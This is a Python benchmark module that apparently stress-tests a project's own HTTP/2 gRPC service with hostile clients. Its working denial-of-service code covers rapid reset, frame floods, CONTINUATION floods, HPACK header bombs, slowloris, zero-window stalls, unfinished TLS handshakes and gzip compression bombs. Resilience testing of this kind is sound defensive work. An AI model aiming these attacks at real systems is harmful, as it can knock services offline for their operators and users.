"""Clients that mean harm, for ``quotelife bench abuse``: each at a rate of its own, so that it is the service that is
measured and not how fast a processor makes frames. Cut off, they come again.
"""

import contextlib
import gzip
import socket
import ssl
import struct
import time
from collections.abc import Callable, Iterator
from multiprocessing.connection import Connection

from quote_expiry.v1 import quote_expiry_service_pb2 as expiry
from quotelife_server.cli.bench_http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    HEADERS,
    INITIAL_WINDOW_SIZE,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    Address,
    connect,
    frame,
    literal,
    message,
    plain_block,
    setting,
    window_update,
)
from quotelife_server.cli.bench_rig import GET_EXPIRY, REQUEST

BATCHES_A_SECOND = 100
CONNECTS_A_SECOND = 200
STREAM_EXPIRY = "/quote_expiry.v1.QuoteExpiryService/StreamExpiry"
STREAMED = expiry.StreamExpiryRequest(
    tag=1, request=expiry.GetExpiryRequest.FromString(REQUEST)
).SerializeToString()
SLOW_CONNECTIONS = 1000
STALLED_CONNECTIONS = 16
HALF_OPEN_CONNECTIONS = 20
BOMB = gzip.compress(bytes(32 * 2**20), 9)


def attack(pipe: Connection, name: str, address: Address) -> None:
    """Until something is said to it; then tells how often it did what it does, was connected, and was cut off, and the
    share of a core that it took."""
    attacker = Attacker(address)
    pipe.send("ready")
    pipe.recv()
    began_s, cpu_s = time.monotonic(), time.process_time()
    step = ATTACKS[name](attacker)
    due_s = began_s
    while not pipe.poll(0):
        with contextlib.suppress(OSError):
            next(step)
        due_s = max(due_s + 1 / BATCHES_A_SECOND, time.monotonic() - 0.1)
        time.sleep(max(0.0, due_s - time.monotonic()))
    took_s = time.monotonic() - began_s
    attacker.close()
    pipe.send(
        {
            "a_second": round(attacker.done / took_s),
            "connections_a_second": round(attacker.connected / took_s, 1),
            "cut_off": attacker.cut_off,
            "attacker_share_of_a_core": round((time.process_time() - cpu_s) / took_s, 2),
        }
    )


class Attacker:
    """Connections of one attacker. ``done``: what it counts."""

    def __init__(self, address: Address) -> None:
        self.address = address
        self.done = self.connected = self.cut_off = 0
        self._open: list[socket.socket] = []
        self._connects_s = 0.0

    def may_connect(self) -> bool:
        now_s = time.monotonic()
        self._connects_s = max(self._connects_s, now_s - 0.1)
        if self._connects_s > now_s:
            return False
        self._connects_s += 1 / CONNECTS_A_SECOND
        return True

    def connect(self, settings: bytes = frame(SETTINGS)) -> socket.socket:
        made = connect(self.address, settings)
        return self.keep(made)

    def bare(self) -> socket.socket:
        """A connection that says nothing."""
        assert not isinstance(self.address, str)
        return self.keep(socket.create_connection(self.address, 5))

    def keep(self, made: socket.socket) -> socket.socket:
        made.setblocking(False)
        self.connected += 1
        self._open.append(made)
        return made

    def drop(self, gone: socket.socket) -> None:
        if gone in self._open:
            self._open.remove(gone)
        gone.close()

    def send(self, to: socket.socket, data: bytes) -> bool:
        """False where it has been cut off. What does not fit is left out."""
        try:
            with contextlib.suppress(BlockingIOError):
                while True:
                    if not to.recv(65_536):
                        raise ConnectionError
            with contextlib.suppress(BlockingIOError):
                to.send(data)
        except OSError:
            self.cut_off += 1
            self.drop(to)
            return False
        return True

    def close(self) -> None:
        for each in self._open:
            each.close()


Attack = Iterator[None]


def _over_one(attacker: Attacker, batch: Callable[[int], bytes], size: int) -> Attack:
    """``batch(k)``: bytes of the k-th batch of a connection, with ``size`` of what is counted in it."""
    while True:
        if not attacker.may_connect():
            yield
            continue
        to = attacker.connect()
        k = 0
        while attacker.send(to, batch(k)):
            attacker.done += size
            k += 1
            yield
        yield


def _call(number: int, block: bytes, payload: bytes = REQUEST) -> bytes:
    return frame(HEADERS, END_HEADERS, number, block) + frame(DATA, END_STREAM, number, message(payload))


def rapid_reset(attacker: Attacker) -> Attack:
    """Calls that are reset as soon as they are sent."""
    block = plain_block(GET_EXPIRY)

    def batch(k: int) -> bytes:
        numbers = range(100 * k + 1, 100 * k + 100, 2)
        return b"".join(
            _call(number, block) + frame(RST_STREAM, 0, number, struct.pack(">I", 8)) for number in numbers
        )

    return _over_one(attacker, batch, 50)


def settings_flood(attacker: Attacker) -> Attack:
    return _over_one(attacker, lambda _: setting(INITIAL_WINDOW_SIZE, 65_535) * 100, 100)


def ping_flood(attacker: Attacker) -> Attack:
    return _over_one(attacker, lambda _: frame(PING, 0, 0, b"12345678") * 100, 100)


def mixed_flood(attacker: Attacker) -> Attack:
    """Acknowledgements of nothing, priorities, windows, empty DATA."""
    one = (
        frame(PING, ACK, 0, b"12345678")
        + frame(PRIORITY, 0, 1, struct.pack(">IB", 0, 1))
        + window_update(0, 1)
        + frame(DATA, 0, 1)
    )
    start = frame(HEADERS, END_HEADERS, 1, plain_block(STREAM_EXPIRY))
    return _over_one(attacker, lambda k: (b"" if k else start) + one * 25, 100)


def continuation_flood(attacker: Attacker) -> Attack:
    """A block of headers that does not end."""
    start = frame(HEADERS, 0, 1, plain_block(GET_EXPIRY))
    more = frame(CONTINUATION, 0, 1, literal(b"x-more", b"v" * 50)) + frame(CONTINUATION, 0, 1)
    return _over_one(attacker, lambda k: (b"" if k else start) + more * 50, 100)


def header_bombs(attacker: Attacker) -> Attack:
    """One long entry of the table that is referred to again and again; long literals; very many short ones."""
    entry = literal(b"x-bomb", b"v" * 3900, indexed=True)
    referred = plain_block(GET_EXPIRY) + entry + b"\xbe" * 10_000
    long = plain_block(GET_EXPIRY, literal(b"x-long", b"v" * 15_000))
    many = plain_block(GET_EXPIRY, *(literal(b"x", b"") for _ in range(4000)))

    def batch(k: int) -> bytes:
        block = (long, many, referred)[k % 3]
        return frame(HEADERS, END_HEADERS | END_STREAM, 2 * k + 1, block)

    return _over_one(attacker, batch, 1)


def slowloris(attacker: Attacker) -> Attack:
    """Connections that say half of something, a byte more now and then, or nothing."""
    call = _call(1, plain_block(GET_EXPIRY))
    start = PREFACE + frame(SETTINGS)
    halves = (
        start + call[:12],
        start + frame(HEADERS, 0, 1, plain_block(GET_EXPIRY)),
        start + call[:-20],
        start,
    )
    open_: list[socket.socket] = []
    k = 0
    while True:
        for _ in range(20):
            if len(open_) < SLOW_CONNECTIONS:
                with contextlib.suppress(OSError):
                    made = attacker.bare()
                    attacker.send(made, halves[attacker.connected % len(halves)])
                    open_.append(made)
        attacker.done = len(open_)
        for _ in range(5):
            if open_:
                k = (k + 1) % len(open_)
                if k % 4 == 2 and not attacker.send(open_[k], b"\0"):
                    del open_[k]
        yield


def half_open_calls(attacker: Attacker) -> Attack:
    """Headers of calls whose messages never come."""
    block = plain_block(GET_EXPIRY)

    def batch(k: int) -> bytes:
        return b"".join(frame(HEADERS, END_HEADERS, n, block) for n in range(100 * k + 1, 100 * k + 100, 2))

    made: list[socket.socket] = []
    batches: dict[socket.socket, int] = {}
    while True:
        if len(made) < HALF_OPEN_CONNECTIONS and attacker.may_connect():
            made.append(attacker.connect())
            batches[made[-1]] = 0
        if made:
            each = made.pop(0)
            if attacker.send(each, batch(batches[each])):
                batches[each] += 1
                attacker.done += 50
                made.append(each)
        yield


def zero_window(attacker: Attacker) -> Attack:
    """Calls and streams whose answers nobody takes: no window, or a socket that is not read."""
    made: list[socket.socket] = []
    block, streaming = plain_block(GET_EXPIRY), plain_block(STREAM_EXPIRY)
    numbers: dict[socket.socket, int] = {}
    while True:
        if len(made) < STALLED_CONNECTIONS and attacker.may_connect():
            shut = setting(INITIAL_WINDOW_SIZE, 0 if len(made) % 2 else 2**31 - 1)
            made.append(attacker.connect(shut))
            numbers[made[-1]] = 1
        for place, each in enumerate(list(made)):
            number = numbers[each]
            numbers[each] = number + 2
            if number % 8 == 1:
                data = frame(HEADERS, END_HEADERS, number, streaming) + frame(
                    DATA, 0, number, message(STREAMED) * 5
                )
            else:
                data = _call(number, block)
            try:
                if place % 2:
                    alive = attacker.send(each, data)
                else:
                    each.send(data)  # and never reads
                    alive = True
            except BlockingIOError:
                alive = True
            except OSError:
                attacker.cut_off += 1
                attacker.drop(each)
                alive = False
            attacker.done += 1
            if not alive:
                made.remove(each)
        yield


def churn(attacker: Attacker) -> Attack:
    """Connections that call once and go, without a word."""
    call = _call(1, plain_block(GET_EXPIRY))
    while True:
        while attacker.may_connect():
            to = attacker.connect()
            attacker.send(to, call)
            attacker.drop(to)
            attacker.done += 1
        yield


def tls_handshakes(attacker: Attacker) -> Attack:
    """Handshakes that are begun, half of them properly, and never finished."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    context.set_alpn_protocols(["h2"])
    begun: list[socket.socket] = []
    while True:
        while attacker.may_connect():
            to = attacker.bare()
            hello = b"\x16\x03\x01\x02\x00\x01"
            if attacker.done % 2:
                incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
                shaking = context.wrap_bio(incoming, outgoing, server_hostname="localhost")
                with contextlib.suppress(ssl.SSLWantReadError):
                    shaking.do_handshake()
                hello = outgoing.read()
            attacker.send(to, hello)
            attacker.done += 1
            begun.append(to)
            if len(begun) > SLOW_CONNECTIONS:
                attacker.drop(begun.pop(0))
        yield


def compressed_bombs(attacker: Attacker) -> Attack:
    """Messages of 32 kB that inflate to 32 MB."""
    block = plain_block(GET_EXPIRY, literal(b"grpc-encoding", b"gzip"))
    body = message(BOMB, compressed=True)

    def batch(k: int) -> bytes:
        number = 2 * k + 1
        frames = [frame(HEADERS, END_HEADERS, number, block)]
        for at in range(0, len(body), 16_384):
            last = at + 16_384 >= len(body)
            frames.append(frame(DATA, END_STREAM if last else 0, number, body[at : at + 16_384]))
        return b"".join(frames)

    return _over_one(attacker, batch, 1)


ATTACKS: dict[str, Callable[[Attacker], Attack]] = {
    each.__name__: each
    for each in (
        rapid_reset, settings_flood, ping_flood, mixed_flood, continuation_flood, header_bombs, slowloris,
        half_open_calls, zero_window, churn, compressed_bombs, tls_handshakes,
    )
}  # fmt: skip
